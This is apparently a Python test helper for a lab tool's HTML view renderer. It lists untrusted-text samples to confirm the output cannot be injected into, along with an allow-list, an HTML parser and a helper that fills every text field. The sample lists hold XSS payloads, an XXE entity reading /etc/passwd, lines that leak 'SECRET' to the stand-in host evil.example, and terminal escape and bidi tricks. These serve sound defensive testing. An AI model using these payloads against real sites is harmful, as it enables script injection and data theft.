"""Texts that a model or a stranger's file may hold, and a reader that sees HTML as a browser's parser does."""

from html.parser import HTMLParser

from mlaas_lab.view import (
    Answer,
    Answers,
    Badge,
    Bar,
    Bars,
    Code,
    Column,
    Ecdf,
    Facts,
    Line,
    ProgressBar,
    Series,
    Sorted,
    Table,
    Tone,
    View,
    Whisker,
    Whiskers,
)

MARKUP = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title></svg><script>alert(1)</script>",
    "</textarea></pre></code></table><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<img src="http://evil.example/leak?d=SECRET">',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>click</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><button>OK</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "<button data-commandlinker-command=terminal:create-new>x</button>",
    "<b id=Jupyter name=attributes>clobber</b>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><img src=x onerror=alert(1)>',
    "x` onerror=`alert(1)",
    '"/><svg onload=alert(1)>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "&amp;lt;b&amp;gt;",
    "&NewLine;&colon;",
    "![a](http://evil.example/leak?d=SECRET)",
    "[x](javascript:alert(1))",
    "${alert(1)} {{7*7}} {% raw %} <%= 1 %>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "</mark><mark onclick=alert(1)>",
    "<<script>script>alert(1)<</script>/script>",
    "<img\x00src=x\x0conerror=alert(1)>",
]
"""What a browser would execute, load or obey if it were markup."""

CONTROLS = [
    "\x1b[31mred\x1b[0m",
    "\x1b]0;owned\x07",
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[H",
    "\x9b31m",
    "over\rwritten",
    "back\b\b\b\bspace",
    "bell\x07",
    "nul\x00byte",
    "\u202egnp.exe",
    "a\u2066b\u2069c",
    "zero\u200bwidth",
    "soft\u00adhyphen",
    "tags\U000e0041\U000e0042",
    "lone\ud800surrogate",
    "line\u2028separator",
    "\ufeffmark of order",
]
"""What a terminal or a text layout would obey."""

CORPUS = [*MARKUP, *CONTROLS]

ALLOWED = {
    "div", "style", "section", "h2", "h3", "h4", "h5", "h6", "p", "span", "table", "caption", "thead", "tbody", "tr",
    "th", "td", "figure", "figcaption", "svg", "title", "line", "path", "rect", "text", "dl", "dt", "dd", "pre", "code",
    "article", "mark", "details", "summary",
}  # fmt: skip
"""Elements that a View may consist of."""
ATTRIBUTES = {
    "class", "style", "role", "scope", "dir", "tabindex", "width", "height", "viewbox", "preserveaspectratio", "x", "y",
    "x1", "x2", "y1", "y2", "rx", "d", "fill", "stroke", "stroke-dasharray", "vector-effect", "text-anchor", "overflow",
    "aria-label", "aria-hidden", "aria-valuemin", "aria-valuemax", "aria-valuenow", "data-label",
}  # fmt: skip


class Page(HTMLParser):
    """What a parser finds: elements with their attributes, and the text between them."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.texts: list[str] = []
        self.depth = 0
        self.strange: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))
        self.depth += tag not in ("meta", "line", "path", "rect")

    def handle_startendtag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_endtag(self, tag):
        self.depth -= 1

    def handle_data(self, data):
        self.texts.append(data)

    def handle_comment(self, data):
        self.strange.append(data)

    def handle_decl(self, decl):
        if decl.lower() != "doctype html":
            self.strange.append(decl)

    def handle_pi(self, data):
        self.strange.append(data)

    @property
    def text(self) -> str:
        return "".join(self.texts)

    def shape(self) -> list[tuple[str, tuple[str, ...]]]:
        """Elements and the names of their attributes: what must not depend on any text."""
        return [(tag, tuple(attributes)) for tag, attributes in self.elements]


def everywhere(word: str) -> View:
    """A View with `word` in every place that takes text."""
    return View(
        title=word,
        badge=Badge(text=word, tone=Tone.GOOD),
        summary=word,
        marks=[
            ProgressBar(n=1, total=2, unit=word, phase=word),
            Facts(rows=[(word, word), (word, Badge(text=word))]),
            Line(title=word, series=[Series(name=word, x=[0, 1, 2], y=[1, 2, 1])], x_title=word, y_title=word),
            Line(title=word, series=[], x_format=lambda _: word),
            Line(title=word, series=[Series(name=word, x=[0, 1], y=[1, 2], points=True)], y_format=lambda _: word),
            Whiskers(title=word, rows=[Whisker(label=word, mean=0.5, low=0.4, high=0.6, note=word)], zero=True),
            Bars(title=word, rows=[Bar(label=word, value=1, note=word), Bar(label=word, value=None, note=word)]),
            Ecdf(title=word, samples=[Sorted(name=word, values=[1, 2, 3])], x_title=word),
            Answers(
                label=word,
                prompt=word,
                reference=word,
                answers=[
                    Answer(target=word, text=f"{word} and more", note=word, error=word),
                    Answer(target=word, text=word),
                    Answer(target=word, text=None, error=word),
                ],
            ),
            Answers(prompt=word, answers=[Answer(target="a", text="other"), Answer(target=word, text=word)]),
            Code(text=word, label=word),
        ],
        table=Table(columns=[word, Column(title=word, unit=word, wrap=True)], rows=[(word, word)], caption=word),
        notes=[word],
        children=[View(title=word, table=Table(columns=[word], rows=[(word,)]), folded=True)],
    )
